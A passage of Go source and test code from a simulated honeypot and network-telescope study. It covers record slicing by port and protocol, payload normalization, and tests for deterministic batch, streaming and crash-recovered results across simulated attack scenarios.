	s.byVantage = make([][]int32, len(counts))
	for vi, n := range counts {
		if n > 0 {
			s.byVantage[vi] = make([]int32, 0, n)
		}
	}
	for ri, vi := range s.blk.Vantage {
		s.byVantage[vi] = append(s.byVantage[vi], int32(ri))
	}
}

// recPayKey returns the normalized payload key of record ri ("" for
// payloadless records).
func (s *Study) recPayKey(ri int) string { return s.payKey[s.blk.Pay[ri]] }

// recProto returns the LZR fingerprint of record ri's payload.
func (s *Study) recProto(ri int) fingerprint.Protocol { return s.payProto[s.blk.Pay[ri]] }

// sliceMatch is ProtocolSlice.matches over the record columns: port
// slices test the port column, the HTTP-all slice tests the
// per-payload fingerprint column instead of re-identifying bytes.
func (s *Study) sliceMatch(slice ProtocolSlice, ri int) bool {
	switch slice {
	case SliceSSH22:
		return s.blk.Port[ri] == 22
	case SliceSSH2222:
		return s.blk.Port[ri] == 2222
	case SliceTelnet23:
		return s.blk.Port[ri] == 23
	case SliceTelnet2323:
		return s.blk.Port[ri] == 2323
	case SliceHTTP80:
		return s.blk.Port[ri] == 80
	case SliceHTTPAll:
		return s.blk.Pay[ri] != 0 && s.recProto(ri) == fingerprint.HTTP
	case SliceAnyAll:
		return true
	default:
		return false
	}
}

// addToView folds record ri into v straight from the columns — the
// columnar counterpart of View.Add, producing byte-identical views.
func (s *Study) addToView(v *View, ri int) {
	if !s.sliceMatch(v.Slice, ri) {
		return
	}
	v.Total++
	v.AS.Add(netsim.ASKeyOf(int(s.blk.ASN[ri])), 1)
	for _, c := range s.blk.CredsAt(ri) {
		v.Usernames.Add(c.Username, 1)
		v.Passwords.Add(c.Password, 1)
	}
	if pay := s.blk.Pay[ri]; pay != 0 {
		v.Payloads.Add(s.payKey[pay], 1)
	}
	hour := s.blk.Hour(ri)
	v.Hourly[hour]++
	src := s.blk.Src[ri]
	v.Srcs[src] = struct{}{}
	if s.mal[ri] {
		v.Malicious++
		v.MalHourly[hour]++
		v.MalSrcs[src] = struct{}{}
	} else {
		v.Benign++
	}
}
