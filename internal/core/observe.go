package core

import (
	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/netsim"
)

// honeypotObserve adapts the honeypot collector; indirection point for
// tests that inject failures.
var honeypotObserve = func(t *netsim.Target, p netsim.Probe) (netsim.Record, bool) {
	return honeypot.Observe(t, p)
}
