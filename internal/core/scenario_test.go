package core

import (
	"runtime"
	"strings"
	"testing"

	"cloudwatch/internal/scanners"
)

// scenarioTestConfig is the scaled-down study of a named scenario: the
// standard test deployment with a thinner population so the full
// scenario × worker-count matrix stays fast.
func scenarioTestConfig(seed int64, scenario string) Config {
	cfg := testConfig(seed, 2021)
	cfg.Actors.Scale = 0.2
	cfg.Actors.Scenario = scenario
	return cfg
}

// scenarioWorkerCounts is the worker-count axis of the determinism
// matrix: serial, a fixed parallel count, and whatever this machine
// defaults to (deduplicated so each study runs once).
func scenarioWorkerCounts() []int {
	counts := []int{1, 4}
	if p := runtime.GOMAXPROCS(0); p != 1 && p != 4 {
		counts = append(counts, p)
	}
	return counts
}

// TestScenariosDeterministicAcrossWorkers extends the central
// byte-identity guarantee to every registered scenario: for each
// scenario, the batch pipeline at Workers 1, 4, and GOMAXPROCS builds
// identical studies, and the epoch-partitioned streaming path —
// full-prefix Snapshot and the Incremental chain — renders the same
// analyses byte for byte.
func TestScenariosDeterministicAcrossWorkers(t *testing.T) {
	const epochs = 2
	scenarioIDs := scanners.Scenarios()
	if testing.Short() {
		scenarioIDs = []string{scanners.BaselineScenario, "burst-ddos"}
	}
	for _, id := range scenarioIDs {
		t.Run(id, func(t *testing.T) {
			cfg := scenarioTestConfig(17, id)
			cfg.Workers = 1
			serial, err := Run(cfg)
			if err != nil {
				t.Fatal(err)
			}
			if serial.NumRecords() == 0 {
				t.Fatal("scenario collected no honeypot records")
			}
			want := renderAllAnalyses(serial)

			for _, workers := range scenarioWorkerCounts() {
				wcfg := scenarioTestConfig(17, id)
				wcfg.Workers = workers

				if workers != 1 { // serial batch study is the reference itself
					batch, err := Run(wcfg)
					if err != nil {
						t.Fatal(err)
					}
					assertStudiesIdentical(t, serial, batch, "batch")
					if renderAllAnalyses(batch) != want {
						t.Fatalf("workers=%d: batch analyses differ from serial", workers)
					}
				}

				es, err := GenerateEpochs(wcfg, epochs)
				if err != nil {
					t.Fatal(err)
				}
				snap, err := es.Snapshot(epochs)
				if err != nil {
					t.Fatal(err)
				}
				assertStudiesIdentical(t, serial, snap, "streaming snapshot")
				if renderAllAnalyses(snap) != want {
					t.Fatalf("workers=%d: full-prefix snapshot differs from batch", workers)
				}
				inc := es.Incremental()
				var chained *Study
				for p := 1; p <= epochs; p++ {
					if chained, err = inc.Advance(); err != nil {
						t.Fatal(err)
					}
				}
				if renderAllAnalyses(chained) != want {
					t.Fatalf("workers=%d: incremental chain differs from batch", workers)
				}
			}
		})
	}
}

// TestScenarioStoreRoundTrip is the persistence half under a
// non-baseline scenario: exported material restores into a set whose
// snapshots render byte-identically, and material generated under one
// scenario refuses to restore into a study configured for another.
func TestScenarioStoreRoundTrip(t *testing.T) {
	const epochs = 2
	cfg := scenarioTestConfig(42, "stealth")
	es, err := GenerateEpochs(cfg, epochs)
	if err != nil {
		t.Fatal(err)
	}
	m := es.Material()
	if got := scanners.CanonicalScenario(m.Scenario); got != "stealth" {
		t.Fatalf("material scenario = %q, want stealth", got)
	}

	restored, err := RestoreEpochSet(cfg, m)
	if err != nil {
		t.Fatal(err)
	}
	for p := 1; p <= epochs; p++ {
		want, err := es.Snapshot(p)
		if err != nil {
			t.Fatal(err)
		}
		got, err := restored.Snapshot(p)
		if err != nil {
			t.Fatal(err)
		}
		if renderAllAnalyses(got) != renderAllAnalyses(want) {
			t.Errorf("prefix %d: restored snapshot differs from original", p)
		}
	}

	// Scenario mismatch: the same material under a different scenario id
	// (including the implicit baseline of a pre-scenario config) must be
	// refused with an error naming both worlds.
	for _, other := range []string{scanners.BaselineScenario, "", "burst-ddos"} {
		mis := cfg
		mis.Actors.Scenario = other
		_, err := RestoreEpochSet(mis, es.Material())
		if err == nil {
			t.Fatalf("scenario %q restored stealth material", other)
		}
		if !strings.Contains(err.Error(), "stealth") {
			t.Errorf("mismatch error should name the material's scenario, got %v", err)
		}
	}
}

// TestRunRejectsInvalidActorConfig checks batch and streaming
// generation both surface actor-config validation errors (unknown
// scenario, negative scale) instead of silently building the baseline.
func TestRunRejectsInvalidActorConfig(t *testing.T) {
	bad := testConfig(42, 2021)
	bad.Actors.Scenario = "bogus"
	if _, err := Run(bad); err == nil || !strings.Contains(err.Error(), "bogus") {
		t.Errorf("Run with unknown scenario: err = %v", err)
	}
	if _, err := GenerateEpochs(bad, 2); err == nil || !strings.Contains(err.Error(), "bogus") {
		t.Errorf("GenerateEpochs with unknown scenario: err = %v", err)
	}
	neg := testConfig(42, 2021)
	neg.Actors.Scale = -1
	if _, err := Run(neg); err == nil {
		t.Error("Run with negative scale succeeded")
	}
	if _, err := GenerateEpochs(neg, 2); err == nil {
		t.Error("GenerateEpochs with negative scale succeeded")
	}
}
