package core

import (
	"fmt"
	"testing"

	"cloudwatch/internal/stats"
)

func TestNormalizePayload(t *testing.T) {
	cases := []struct {
		name string
		in   string
		want string
	}{
		{
			name: "lf lines drop ephemeral headers",
			in:   "GET / HTTP/1.1\nHost: a.example\nUser-Agent: zgrab\nDate: Thu\n\n",
			want: "GET / HTTP/1.1\nUser-Agent: zgrab\n\n",
		},
		{
			// CRLF line endings: the '\r' rides along at the end of each
			// line but never hides the header name the filter keys on.
			name: "crlf lines drop ephemeral headers",
			in:   "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: zgrab\r\n\r\n",
			want: "GET / HTTP/1.1\r\nUser-Agent: zgrab\r\n\r\n",
		},
		{
			name: "ephemeral header as final line without trailing newline",
			in:   "GET / HTTP/1.1\nHost: a.example",
			want: "GET / HTTP/1.1\n",
		},
		{
			name: "keeper as final line without trailing newline",
			in:   "GET / HTTP/1.1\nUser-Agent: zgrab",
			want: "GET / HTTP/1.1\nUser-Agent: zgrab",
		},
		{
			name: "content-length dropped",
			in:   "POST /cgi HTTP/1.1\nContent-Length: 42\nX: y\n",
			want: "POST /cgi HTTP/1.1\nX: y\n",
		},
		{
			// Non-HTTP payloads pass through untouched even when they
			// contain lines that look like ephemeral headers.
			name: "non-http payload untouched",
			in:   "SSH-2.0-Go\nHost: not-really-a-header\n",
			want: "SSH-2.0-Go\nHost: not-really-a-header\n",
		},
		{
			name: "binary payload untouched",
			in:   "\x16\x03\x01\x00\x05hello",
			want: "\x16\x03\x01\x00\x05hello",
		},
		{
			name: "empty payload",
			in:   "",
			want: "",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := string(normalizePayload([]byte(tc.in)))
			if got != tc.want {
				t.Errorf("normalizePayload(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestPayloadKey(t *testing.T) {
	t.Run("quotes and truncates", func(t *testing.T) {
		long := "GET /"
		for len(long) < 200 {
			long += "aaaaaaaaaa"
		}
		long += " HTTP/1.1\n"
		key := payloadKey([]byte(long))
		if want := fmt.Sprintf("%q", long[:48]); key != want {
			t.Errorf("payloadKey = %q, want %q", key, want)
		}
	})
	t.Run("normalization applied before truncation", func(t *testing.T) {
		a := payloadKey([]byte("GET / HTTP/1.1\nHost: one.example\nX: y\n"))
		b := payloadKey([]byte("GET / HTTP/1.1\nHost: two.example\nX: y\n"))
		if a != b {
			t.Errorf("payloads differing only in Host got distinct keys: %q vs %q", a, b)
		}
	})
	t.Run("short payload kept whole", func(t *testing.T) {
		if got, want := payloadKey([]byte("abc")), fmt.Sprintf("%q", "abc"); got != want {
			t.Errorf("payloadKey = %q, want %q", got, want)
		}
	})
}

func TestMedianMerge(t *testing.T) {
	cases := []struct {
		name   string
		tables []stats.Freq
		want   stats.Freq
	}{
		{
			name: "zero-median keys dropped",
			// "rare" appears in only 1 of 3 tables: median(4,0,0)=0 → dropped.
			tables: []stats.Freq{
				{"common": 2, "rare": 4},
				{"common": 4},
				{"common": 6},
			},
			want: stats.Freq{"common": 4},
		},
		{
			name: "majority presence survives",
			tables: []stats.Freq{
				{"k": 1},
				{"k": 3},
				{},
			},
			want: stats.Freq{"k": 1},
		},
		{
			name: "even table count averages middle pair",
			tables: []stats.Freq{
				{"k": 1},
				{"k": 3},
				{"k": 5},
				{"k": 7},
			},
			want: stats.Freq{"k": 4},
		},
		{
			// Median of (2, 0) is 1: half-present keys survive at half
			// strength with two tables.
			name: "two tables half presence",
			tables: []stats.Freq{
				{"k": 2},
				{},
			},
			want: stats.Freq{"k": 1},
		},
		{
			name:   "no tables",
			tables: nil,
			want:   stats.Freq{},
		},
		{
			name:   "all empty",
			tables: []stats.Freq{{}, {}},
			want:   stats.Freq{},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := medianMerge(tc.tables)
			if len(got) != len(tc.want) {
				t.Fatalf("medianMerge = %v, want %v", got, tc.want)
			}
			for k, v := range tc.want {
				if got[k] != v {
					t.Errorf("medianMerge[%q] = %v, want %v", k, got[k], v)
				}
			}
		})
	}
}
