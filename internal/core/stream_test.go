package core

import (
	"fmt"
	"runtime"
	"testing"

	"cloudwatch/internal/netsim"
)

// TestStreamingSnapshotsMatchTruncatedRuns is the streaming
// equivalence matrix: for seeds 42/7 × years 2020–2022 × generation
// Workers 1/4/GOMAXPROCS, every epoch-prefix snapshot renders every
// table, figure, and ablation byte-identically to a fresh batch
// core.Run truncated to the same window, and the final snapshot
// byte-identically to the full-week run. The truncated references are
// built once per (seed, year) at the default worker count, so the
// comparison also crosses worker counts.
func TestStreamingSnapshotsMatchTruncatedRuns(t *testing.T) {
	seeds := []int64{42, 7}
	years := []int{2020, 2021, 2022}
	if testing.Short() {
		seeds = seeds[:1]
		years = []int{2021}
	}
	const epochs = 4
	workersList := []int{1, 4, runtime.GOMAXPROCS(0)}

	for _, seed := range seeds {
		for _, year := range years {
			t.Run(fmt.Sprintf("seed%d-year%d", seed, year), func(t *testing.T) {
				cfg := testConfig(seed, year)
				eb := netsim.NewEpochs(epochs)

				wants := make([]string, epochs+1)
				for p := 1; p <= epochs; p++ {
					bcfg := cfg
					if p < epochs {
						bcfg.WindowSec = eb.Bound(p)
					}
					batch, err := Run(bcfg)
					if err != nil {
						t.Fatal(err)
					}
					wants[p] = renderAllAnalyses(batch)
				}
				for p := 2; p <= epochs; p++ {
					if wants[p] == wants[p-1] {
						t.Fatalf("prefixes %d and %d render identically — the windows are not truncating", p-1, p)
					}
				}

				for _, workers := range workersList {
					scfg := cfg
					scfg.Workers = workers
					es, err := GenerateEpochs(scfg, epochs)
					if err != nil {
						t.Fatal(err)
					}
					for p := 1; p <= epochs; p++ {
						snap, err := es.Snapshot(p)
						if err != nil {
							t.Fatal(err)
						}
						if got := renderAllAnalyses(snap); got != wants[p] {
							t.Errorf("workers=%d prefix=%d: snapshot analyses differ from truncated batch run", workers, p)
						}
					}

					// The incremental chain (the path the streaming
					// engine's IngestNext takes) must match the same
					// truncated batch references; rendering after the
					// whole chain is built also checks that later
					// appends leave earlier snapshots untouched.
					inc := es.Incremental()
					chain := make([]*Study, 0, epochs)
					for p := 1; p <= epochs; p++ {
						snap, err := inc.Advance()
						if err != nil {
							t.Fatal(err)
						}
						chain = append(chain, snap)
					}
					for p := 1; p <= epochs; p++ {
						if got := renderAllAnalyses(chain[p-1]); got != wants[p] {
							t.Errorf("workers=%d prefix=%d: incremental snapshot differs from truncated batch run", workers, p)
						}
					}
				}
			})
		}
	}
}

// TestFinalSnapshotIsTheFullStudy deep-compares the final prefix
// snapshot against the full-week batch run — records, collectors, and
// verdicts, not just rendered output.
func TestFinalSnapshotIsTheFullStudy(t *testing.T) {
	cfg := testConfig(42, 2021)
	want, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	es, err := GenerateEpochs(cfg, 5)
	if err != nil {
		t.Fatal(err)
	}
	got, err := es.Snapshot(5)
	if err != nil {
		t.Fatal(err)
	}
	assertStudiesIdentical(t, want, got, "final snapshot")
}

// TestWindowedRunTruncates pins WindowSec semantics: a truncated run
// holds exactly the records of the full run whose study-second falls
// inside the window, in the full run's order, and its telescope saw
// no later packet either.
func TestWindowedRunTruncates(t *testing.T) {
	cfg := testConfig(7, 2021)
	full, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	eb := netsim.NewEpochs(3)
	wcfg := cfg
	wcfg.WindowSec = eb.Bound(1)
	trunc, err := Run(wcfg)
	if err != nil {
		t.Fatal(err)
	}
	if trunc.NumRecords() == 0 || trunc.NumRecords() >= full.NumRecords() {
		t.Fatalf("truncated run has %d records (full %d)", trunc.NumRecords(), full.NumRecords())
	}
	if trunc.Tel.Packets() >= full.Tel.Packets() {
		t.Fatalf("truncated telescope saw %d packets (full %d)", trunc.Tel.Packets(), full.Tel.Packets())
	}
	// The truncated record sequence is the full sequence filtered to
	// the window.
	i := 0
	trunc.EachRecord(func(_ int, rec netsim.Record) {
		if sec, _ := netsim.StudySeconds(rec.T); sec >= wcfg.WindowSec {
			t.Fatalf("truncated run kept a record at study-second %d (window %d)", sec, wcfg.WindowSec)
		}
		for i < full.NumRecords() {
			fr := full.RecordAt(i)
			i++
			if recordsEqual(rec, fr) {
				return
			}
		}
		t.Fatal("truncated records are not a subsequence of the full run")
	})
}

// TestGenerateEpochsValidation pins the API edges: truncation windows
// cannot combine with streaming, and snapshot prefixes are bounded.
func TestGenerateEpochsValidation(t *testing.T) {
	cfg := testConfig(42, 2021)
	cfg.WindowSec = 3600
	if _, err := GenerateEpochs(cfg, 4); err == nil {
		t.Fatal("GenerateEpochs accepted a truncation window")
	}
	cfg.WindowSec = 0
	es, err := GenerateEpochs(cfg, 4)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []int{0, -1, 5} {
		if _, err := es.Snapshot(p); err == nil {
			t.Errorf("Snapshot(%d) accepted", p)
		}
	}
	// Epoch accounting covers every generated record.
	total := 0
	for e := 0; e < es.NumEpochs(); e++ {
		total += es.EpochRecords(e)
	}
	snap, err := es.Snapshot(4)
	if err != nil {
		t.Fatal(err)
	}
	if snap.NumRecords() != total {
		t.Fatalf("epoch records sum to %d, final snapshot has %d", total, snap.NumRecords())
	}
}
