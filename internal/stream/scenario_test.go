package stream

import (
	"net/http/httptest"
	"strings"
	"testing"

	"cloudwatch/internal/core"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/store"
)

// scenarioStudyConfig is testStudyConfig under a named scenario, with
// a thinner population (the scenario suites run several engines).
func scenarioStudyConfig(seed int64, scenario string) core.Config {
	cfg := testStudyConfig(seed, 2021)
	cfg.Actors.Scale = 0.2
	cfg.Actors.Scenario = scenario
	return cfg
}

// TestEngineScenarioAxis pins the sweep scenario axis against a single
// engine: empty selects the active scenario, the active id passes,
// unknown ids enumerate the registry, and registered-but-inactive ids
// name what this engine serves.
func TestEngineScenarioAxis(t *testing.T) {
	eng, err := New(Config{Study: scenarioStudyConfig(42, "stealth"), Epochs: 2})
	if err != nil {
		t.Fatal(err)
	}
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}
	if got := eng.Scenario(); got != "stealth" {
		t.Fatalf("Scenario() = %q, want stealth", got)
	}

	req := SweepRequest{Tables: []string{"table2"}, KMin: 3, KMax: 3, Prefixes: []int{2}}
	res, err := eng.Sweep(req)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Scenarios) != 1 || res.Scenarios[0] != "stealth" {
		t.Fatalf("result scenarios = %v", res.Scenarios)
	}
	for _, c := range res.Cells {
		if c.Scenario != "stealth" {
			t.Fatalf("cell not stamped with scenario: %+v", c)
		}
	}

	req.Scenarios = []string{"stealth"}
	if _, err := eng.Sweep(req); err != nil {
		t.Errorf("active scenario rejected: %v", err)
	}
	req.Scenarios = []string{"bogus"}
	if _, err := eng.Sweep(req); err == nil || !strings.Contains(err.Error(), "attack-platform") {
		t.Errorf("unknown scenario error should enumerate registered ids, got %v", err)
	}
	req.Scenarios = []string{scanners.BaselineScenario}
	if _, err := eng.Sweep(req); err == nil || !strings.Contains(err.Error(), "stealth") {
		t.Errorf("inactive scenario error should name the active one, got %v", err)
	}
}

// TestMergeSweepResults checks the multi-engine merge the CLI's
// multi-scenario sweep mode uses: cells and scenario lists concatenate
// in order and the throughput re-derives from the summed wall-clock.
func TestMergeSweepResults(t *testing.T) {
	a := &SweepResult{
		Year: 2021, Seed: 42, Scenarios: []string{"baseline"},
		Cells:   []SweepCell{{Scenario: "baseline", Prefix: 1, K: 3, Table: "table2"}},
		Renders: 1, Seconds: 1,
	}
	b := &SweepResult{
		Year: 2021, Seed: 42, Scenarios: []string{"stealth"},
		Cells: []SweepCell{
			{Scenario: "stealth", Prefix: 1, K: 3, Table: "table2"},
			{Scenario: "stealth", Prefix: 2, K: 3, Table: "table2"},
		},
		Renders: 2, Seconds: 3,
	}
	m := MergeSweepResults(a, b)
	if m.Year != 2021 || m.Seed != 42 {
		t.Fatalf("merged identity = %d/%d", m.Year, m.Seed)
	}
	if len(m.Scenarios) != 2 || m.Scenarios[0] != "baseline" || m.Scenarios[1] != "stealth" {
		t.Fatalf("merged scenarios = %v", m.Scenarios)
	}
	if m.Renders != 3 || len(m.Cells) != 3 || m.Cells[2].Prefix != 2 {
		t.Fatalf("merged cells = %+v", m.Cells)
	}
	if m.Seconds != 4 || m.RendersPerSec != 0.75 {
		t.Fatalf("merged throughput = %v renders/s over %vs", m.RendersPerSec, m.Seconds)
	}
}

// TestServerScenarioSurfaces drives the HTTP layer of the scenario
// axis: /readyz and /v1/status report the active scenario, snapshot
// requests may assert one (unknown and not-served ids 404 with the
// registry resp. the active id in the message), and /v1/sweep accepts
// the scenario query parameter.
func TestServerScenarioSurfaces(t *testing.T) {
	eng, err := New(Config{Study: scenarioStudyConfig(7, "burst-ddos"), Epochs: 2})
	if err != nil {
		t.Fatal(err)
	}
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}
	srv := NewServer(eng)
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	var ready map[string]any
	getJSON(t, ts.URL+"/readyz", 200, &ready)
	if ready["scenario"] != "burst-ddos" {
		t.Fatalf("readyz scenario = %v", ready["scenario"])
	}

	var st statusResponse
	getJSON(t, ts.URL+"/v1/status", 200, &st)
	if st.Scenario != "burst-ddos" || st.ScenarioDescription == "" {
		t.Fatalf("status scenario = %q (%q)", st.Scenario, st.ScenarioDescription)
	}
	if len(st.Scenarios) < 4 || st.Scenarios[0] != scanners.BaselineScenario {
		t.Fatalf("status should list the registry baseline-first, got %v", st.Scenarios)
	}

	var snap snapshotResponse
	getJSON(t, ts.URL+"/v1/snapshot/1/table2", 200, &snap)
	if snap.Scenario != "burst-ddos" {
		t.Fatalf("snapshot scenario = %q", snap.Scenario)
	}
	getJSON(t, ts.URL+"/v1/snapshot/1/table2?scenario=burst-ddos", 200, &snap)

	var e errorResponse
	getJSON(t, ts.URL+"/v1/snapshot/1/table2?scenario=bogus", 404, &e)
	if !strings.Contains(e.Error, "attack-platform") {
		t.Errorf("unknown-scenario 404 should enumerate registered ids: %q", e.Error)
	}
	getJSON(t, ts.URL+"/v1/snapshot/1/table2?scenario=stealth", 404, &e)
	if !strings.Contains(e.Error, "burst-ddos") {
		t.Errorf("not-served 404 should name the active scenario: %q", e.Error)
	}

	var swp SweepResult
	getJSON(t, ts.URL+"/v1/sweep?tables=table2&kmin=3&kmax=3&prefixes=1&scenario=burst-ddos", 200, &swp)
	if len(swp.Scenarios) != 1 || swp.Scenarios[0] != "burst-ddos" {
		t.Fatalf("sweep scenarios = %v", swp.Scenarios)
	}
	getJSON(t, ts.URL+"/v1/sweep?tables=table2&kmin=3&kmax=3&prefixes=1&scenarios=stealth", 400, &e)
	if !strings.Contains(e.Error, "burst-ddos") {
		t.Errorf("sweep not-served error should name the active scenario: %q", e.Error)
	}
}

// TestStoreRefusesScenarioMismatch is the persistence guarantee: a
// durable store written under one scenario refuses to serve a study
// configured for another (scenario is identity, like seed and year),
// while reopening under the same scenario recovers without
// regeneration.
func TestStoreRefusesScenarioMismatch(t *testing.T) {
	fsys := store.NewMemFS()
	cfg := Config{Study: scenarioStudyConfig(42, "stealth"), Epochs: 2}
	eng, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}
	want := renderEvery(t, eng, 2)

	// Same scenario spelled the same way: recovered, byte-identical.
	again, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if !again.Recovered() {
		t.Fatal("same-scenario reopen regenerated")
	}
	if renderEvery(t, again, 2) != want {
		t.Error("recovered engine renders differently")
	}

	// Any other scenario — including the implicit baseline of a
	// pre-scenario config — is a different study.
	for _, other := range []string{scanners.BaselineScenario, "", "burst-ddos"} {
		mis := cfg
		mis.Study.Actors.Scenario = other
		if _, err := Open(mis, openTestStore(t, fsys)); err == nil {
			t.Errorf("scenario %q opened a stealth store", other)
		}
	}
}

// TestStoreScenarioCanonicalization checks "" and "baseline" are the
// same store identity: a store written pre-scenario (empty id) serves
// a config that says baseline explicitly, and vice versa.
func TestStoreScenarioCanonicalization(t *testing.T) {
	fsys := store.NewMemFS()
	implicit := Config{Study: testStudyConfig(42, 2021), Epochs: 2}
	implicit.Study.Actors.Scale = 0.2
	eng, err := Open(implicit, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}

	explicit := implicit
	explicit.Study.Actors.Scenario = scanners.BaselineScenario
	again, err := Open(explicit, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if !again.Recovered() {
		t.Error("explicit-baseline config regenerated an implicit-baseline store")
	}
}
