package stream

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"cloudwatch/internal/core"
	"cloudwatch/internal/store"
)

func openTestStore(t *testing.T, fsys store.FS) *store.Store {
	t.Helper()
	st, err := store.Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// renderEvery renders every registered experiment of one prefix
// snapshot into a single string — the byte-identity probe.
func renderEvery(t *testing.T, eng *Engine, prefix int) string {
	t.Helper()
	snap, err := eng.Snapshot(prefix)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, name := range core.ExperimentNames() {
		out, ok := core.RenderExperiment(snap, name)
		if !ok {
			t.Fatalf("experiment %s not renderable", name)
		}
		fmt.Fprintf(&b, "== %s ==\n%s\n", name, out)
	}
	return b.String()
}

// TestOpenRecoversByteIdentical is the end-to-end crash-recovery
// matrix: generate through a store, ingest, crash, reopen — the
// recovered engine must skip generation and serve every prefix
// byte-identically to an engine that never crashed, across seeds,
// years, and worker counts.
func TestOpenRecoversByteIdentical(t *testing.T) {
	const epochs = 3
	cells := []struct {
		seed    int64
		year    int
		workers int
	}{
		{42, 2021, 1},
		{42, 2021, 4},
		{7, 2020, 1},
		{7, 2020, 4},
	}
	if testing.Short() {
		cells = cells[:2]
	}
	for _, cell := range cells {
		t.Run(fmt.Sprintf("seed%d-year%d-workers%d", cell.seed, cell.year, cell.workers), func(t *testing.T) {
			study := testStudyConfig(cell.seed, cell.year)
			study.Workers = cell.workers
			cfg := Config{Study: study, Epochs: epochs}

			// The never-crashed reference chain.
			ref, err := New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			if err := ref.IngestAll(); err != nil {
				t.Fatal(err)
			}
			wants := make([]string, epochs+1)
			for p := 1; p <= epochs; p++ {
				wants[p] = renderEvery(t, ref, p)
			}

			// Cold start against an empty store: generates, persists,
			// ingests partway, then the process dies.
			fsys := store.NewMemFS()
			eng, err := Open(cfg, openTestStore(t, fsys))
			if err != nil {
				t.Fatal(err)
			}
			if eng.Recovered() {
				t.Fatal("fresh store reported a recovery")
			}
			if _, _, err := eng.IngestNext(); err != nil {
				t.Fatal(err)
			}
			if _, _, err := eng.IngestNext(); err != nil {
				t.Fatal(err)
			}
			fsys.Crash()

			// Restart: recovery skips generation, rehydrates to the
			// acknowledged prefix, and the remaining epochs ingest on
			// top — every snapshot byte-identical to the reference.
			eng2, err := Open(cfg, openTestStore(t, fsys))
			if err != nil {
				t.Fatal(err)
			}
			if !eng2.Recovered() {
				t.Fatal("second open did not recover from the store")
			}
			if got := eng2.Ingested(); got != 2 {
				t.Fatalf("rehydrated to %d epochs, want 2", got)
			}
			if err := eng2.IngestAll(); err != nil {
				t.Fatal(err)
			}
			for p := 1; p <= epochs; p++ {
				if renderEvery(t, eng2, p) != wants[p] {
					t.Errorf("prefix %d: recovered engine renders differently", p)
				}
			}

			// Snapshot range errors behave identically on the recovered
			// engine.
			if _, err := eng2.Snapshot(0); err == nil {
				t.Error("prefix 0 served on recovered engine")
			}
			if _, err := eng2.Snapshot(epochs + 1); err == nil {
				t.Error("out-of-range prefix served on recovered engine")
			}
		})
	}
}

// TestOpenRegeneratesTornStore tears the persisted segment and
// expects Open to regenerate deterministically, rewrite the store,
// and still serve byte-identical snapshots (and recover for real on
// the open after that).
func TestOpenRegeneratesTornStore(t *testing.T) {
	const epochs = 2
	cfg := Config{Study: testStudyConfig(42, 2021), Epochs: epochs}
	fsys := store.NewMemFS()
	eng, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}
	wants := make([]string, epochs+1)
	for p := 1; p <= epochs; p++ {
		wants[p] = renderEvery(t, eng, p)
	}

	seg := fsys.Bytes("study/segment")
	fsys.SetBytes("study/segment", seg[:len(seg)*2/3])

	eng2, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if eng2.Recovered() {
		t.Fatal("torn segment reported as recovered")
	}
	// The manifest survived the tear, so rehydration still reaches the
	// acknowledged prefix — on regenerated material.
	if got := eng2.Ingested(); got != epochs {
		t.Fatalf("rehydrated to %d epochs, want %d", got, epochs)
	}
	for p := 1; p <= epochs; p++ {
		if renderEvery(t, eng2, p) != wants[p] {
			t.Errorf("prefix %d: regenerated engine renders differently", p)
		}
	}

	eng3, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if !eng3.Recovered() {
		t.Fatal("rewritten store did not recover")
	}
}

func TestOpenRejectsMismatchedStore(t *testing.T) {
	fsys := store.NewMemFS()
	cfgA := Config{Study: testStudyConfig(42, 2021), Epochs: 2}
	if _, err := Open(cfgA, openTestStore(t, fsys)); err != nil {
		t.Fatal(err)
	}

	for name, cfgB := range map[string]Config{
		"different seed":        {Study: testStudyConfig(7, 2021), Epochs: 2},
		"different year":        {Study: testStudyConfig(42, 2022), Epochs: 2},
		"different epoch count": {Study: testStudyConfig(42, 2021), Epochs: 3},
	} {
		if _, err := Open(cfgB, openTestStore(t, fsys)); err == nil {
			t.Errorf("%s: store accepted", name)
		}
	}

	// Workers and WindowSec are execution parameters, not identity:
	// the store opens under any worker count.
	cfgW := cfgA
	cfgW.Study.Workers = 3
	eng, err := Open(cfgW, openTestStore(t, fsys))
	if err != nil {
		t.Fatalf("worker-count change rejected: %v", err)
	}
	if !eng.Recovered() {
		t.Error("worker-count change forced regeneration")
	}
}

// TestIngestPersistFailureSurfaces verifies the satellite contract:
// when the manifest update fails, IngestNext returns the error (the
// HTTP layer turns it into a non-200) while the in-memory snapshot
// stays published and the durable cursor stays at the old prefix.
func TestIngestPersistFailureSurfaces(t *testing.T) {
	errInjected := errors.New("injected fault")
	fsys := store.NewMemFS()
	cfg := Config{Study: testStudyConfig(42, 2021), Epochs: 2}
	eng, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
